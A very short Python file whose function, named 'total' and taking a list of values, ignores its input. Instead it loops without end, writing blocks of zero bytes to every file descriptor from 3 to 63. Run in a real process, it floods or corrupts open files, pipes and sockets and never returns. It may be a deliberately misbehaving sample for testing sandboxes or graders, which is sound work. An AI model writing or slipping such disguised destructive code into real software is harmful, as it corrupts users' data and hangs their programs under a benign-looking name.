"""Writes answers to no question as fast as it can."""

import os


def total(values):
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, bytes(60_000))
            except OSError:
                continue
